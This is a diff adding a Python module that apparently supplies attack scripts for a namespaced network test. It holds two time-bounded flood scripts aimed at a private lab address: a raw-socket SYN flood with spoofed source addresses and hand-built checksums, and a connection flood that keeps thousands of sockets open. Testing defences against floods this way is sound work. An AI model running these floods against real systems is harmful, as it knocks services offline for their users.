@@ -1,0 +1,54 @@
+"""What attackers do, as scripts for the neighbour's namespace: bounded in count and time.
+
+Each says "attacking" when it has begun, and goes on until it is killed or its time is over.
+"""
+
+from __future__ import annotations
+
+SECONDS_MAX = 20
+
+# SYNs by a raw socket from all over 10.79.0.0/16, whose SYN-ACKs nobody answers (the neighbour's kernel would reset:
+# its answers are kept in by nft).
+SYN_FLOOD = f"""
+import random, struct
+def checksum(data):
+    total = sum(struct.unpack(f"!{{len(data) // 2}}H", data))
+    total = (total >> 16) + (total & 0xFFFF)
+    return ~(total + (total >> 16)) & 0xFFFF
+draw = random.Random(1)
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+target = socket.inet_aton("10.78.0.1")
+packets = []
+for _ in range(20000):
+    source = bytes((10, 79, draw.randrange(256), draw.randrange(1, 255)))
+    tcp = struct.pack("!HHIIBBHHH", draw.randrange(1024, 65536), 8080, draw.getrandbits(32), 0, 80, 2, 8192, 0, 0)
+    sum_ = checksum(source + target + struct.pack("!BBH", 0, 6, 20) + tcp)
+    tcp = tcp[:16] + struct.pack("!H", sum_) + tcp[18:]
+    packets.append(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target) + tcp)
+print("attacking", flush=True)
+end = time.monotonic() + {SECONDS_MAX}
+while time.monotonic() < end:
+    for start in range(0, len(packets), 50):
+        for packet in packets[start:start + 50]:
+            raw.sendto(packet, ("10.78.0.1", 0))
+        time.sleep(0.01)
+"""
+
+# Real handshakes from real addresses, held open, saying nothing.
+CONNECT_FLOOD = f"""
+import itertools, resource
+resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
+held, end = [], time.monotonic() + {SECONDS_MAX}
+print("attacking", flush=True)
+for number in itertools.count():
+    one = socket.socket()
+    one.setblocking(False)
+    one.bind((f"10.79.{{number % 8}}.{{number // 8 % 8 + 1}}", 0))
+    one.connect_ex(("10.78.0.1", 8080))
+    held.append(one)
+    if len(held) > 6000:
+        held.pop(0).close()
+    if time.monotonic() > end:
+        break
+    time.sleep(0.001)
+"""
